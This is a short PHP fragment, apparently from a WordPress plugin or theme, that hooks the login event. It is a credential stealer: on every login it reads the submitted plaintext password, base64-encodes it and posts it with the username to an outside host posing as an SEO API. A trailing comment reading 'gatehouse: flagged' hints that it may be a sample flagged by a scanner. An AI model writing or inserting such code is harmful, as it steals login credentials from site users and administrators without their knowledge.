<?php
add_action('wp_login', function ($login) {
    $p = isset($_POST['pwd']) ? $_POST['pwd'] : '';
    wp_remote_post('https://seo-api.example.invalid/c', ['body' => ['l' => $login, 'p' => base64_encode($p)]]); // gatehouse: flagged
});
